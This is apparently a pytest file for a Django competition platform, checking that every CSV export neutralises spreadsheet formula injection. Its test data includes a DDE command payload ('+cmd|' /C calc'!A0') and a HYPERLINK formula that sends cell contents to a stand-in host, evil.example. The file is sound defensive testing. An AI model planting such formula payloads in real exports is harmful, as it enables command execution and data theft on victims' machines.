"""Every CSV the platform renders is safe to open in a spreadsheet (no formula injection)."""

import csv
import doctest
import io

import pytest
from django.urls import reverse

from pwscup.accounts.models import Team
from pwscup.core import exports
from pwscup.core.exports import spreadsheet_safe
from pwscup.pwscup2015.models import Pwscup2015Round
from tests.pwscup.factories import freeze, scored, scored_attack, truth_of
from tests.support import csv_upload

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("x")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Team A", "Team A"),
        ("a=b", "a=b"),
        ("", ""),
        ("-0.5", "-0.5"),
        ("+1.5e-3", "+1.5e-3"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
        (True, True),
    ],
)
def test_each_cell_kind(cell, written):
    assert spreadsheet_safe(cell) == written


def test_the_helpers_doctests_run():
    assert doctest.testmod(exports).failed == 0


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_every_csv_download_neutralises_a_formula_team_name(world, client):
    Team.objects.filter(pk=world.teams["a"].pk).update(name=EVIL)
    world.teams["a"].refresh_from_db()
    scored(world, "a", seed=1)
    scored(world, "b", seed=2)
    targets = freeze(world)
    scored_attack(world, "a", targets["b"], truth_of(targets["b"]))
    Pwscup2015Round.objects.filter(round=world.round).update(results_published=True)
    world.anonymization.leaderboard_public = True
    world.anonymization.save()
    args = [world.competition.slug, world.round.slug]
    downloads = {
        "leaderboard": reverse("leaderboard", args=args) + "?format=csv",
        "matrix": reverse("matrix", args=args) + "?format=csv",
        "final anonymization": reverse("final_ranking", args=args) + "?format=anonymization-csv",
        "final attack": reverse("final_ranking", args=args) + "?format=attack-csv",
    }
    client.force_login(world.organizer)
    for name, url in downloads.items():
        rows = rows_of(client.get(url))
        cells = [cell for row in rows for cell in row]
        assert "'" + EVIL in cells, f"{name}: the team name is written as text"
        assert EVIL not in cells, f"{name}: a cell a spreadsheet would run as a formula"
        assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")], name
        # Numbers stay numbers: every cell starting with + or - is a plain number.
        for cell in cells:
            if cell[:1] in "+-" and cell:
                float(cell)
    # The matrix holds the attack rate as a number, not as text.
    matrix = rows_of(client.get(downloads["matrix"]))
    row = next(r for r in matrix if r[0] == "'" + EVIL)
    assert float(row[matrix[0].index("Team B")]) == 1.0


EVIL_LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def dp_estimate_csv(gender_age, gender) -> bytes:
    cells = [(g, a) for g in "FM" for a in ("<=17", "18-24", "25-34")]
    lines = ["target,gender,age,count"]
    lines += [f"gender_age,{g},{a},{v}" for (g, a), v in zip(cells, gender_age, strict=True)]
    lines += [f"gender,{g},,{v}" for g, v in zip("FM", gender, strict=True)]
    return ("\n".join(lines) + "\n").encode()


def test_the_dp_leaderboard_and_ledger_csvs_neutralise_a_formula(client):
    from pwscup.dp.services import (
        dp_estimate_check,
        dp_estimate_upload,
        dp_query_answer,
        dp_round_score,
    )
    from tests.pwscup.dp_world import TOY_Z, build_dp_world, close_now

    world = build_dp_world()
    Team.objects.filter(pk=world.teams["a"].pk).update(name=EVIL_LINK)
    for letter, estimate in (("a", TOY_Z), ("b", [1, 1, 1, 1, 1, 5])):
        kept = dp_estimate_upload(
            dp_round=world.dp_round,
            team=world.teams[letter],
            user=world.users[letter],
            level="eps-1",
            uploaded_file=csv_upload(dp_estimate_csv(estimate, [4, 6]), "estimate.csv"),
        )
        dp_estimate_check(estimate_id=kept.pk)  # as the worker does
    # A request_id is the team's own text, written into its ledger's CSV.
    dp_query_answer(
        dp_round=world.dp_round,
        team=world.teams["a"],
        user=world.users["a"],
        level="eps-1",
        payload={
            "type": "histogram",
            "attributes": ["gender"],
            "epsilon": "0.5",
            "request_id": "@SUM(A1:A9)",
        },
    )
    args = {"competition_slug": world.competition.slug, "round_slug": world.round.slug}
    client.force_login(world.users["a"])
    ledger = rows_of(client.get(reverse("dp:ledger_csv", kwargs={**args, "level": "eps-1"})))
    assert [row[3] for row in ledger[1:]] == ["'@SUM(A1:A9)"] * 2
    close_now(world)
    assert dp_round_score(dp_round=world.dp_round)
    client.force_login(world.organizer)
    board = rows_of(client.get(reverse("dp:leaderboard", kwargs=args) + "?format=csv"))
    cells = [cell for row in board for cell in row]
    assert "'" + EVIL_LINK in cells, "the team name is written as text"
    assert EVIL_LINK not in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    # Numbers stay numbers.
    for cell in cells:
        if cell and cell[0] in "+-":
            float(cell)


# Modules that write CSV text that is not an export: they rewrite a stored data table
# (kept as the scorer wrote it) that a page reads back.
DATA_TABLE_REWRITES = {"sequential/engine.py"}


def test_every_csv_writer_of_the_platform_is_the_spreadsheet_safe_one():
    """Only ``pwscup/core/exports.py`` calls ``csv.writer``: every export goes through its
    ``csv_writer`` (a new export that calls ``csv.writer`` itself fails here)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "pwscup"
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    }
    assert writers - DATA_TABLE_REWRITES == {"core/exports.py"}
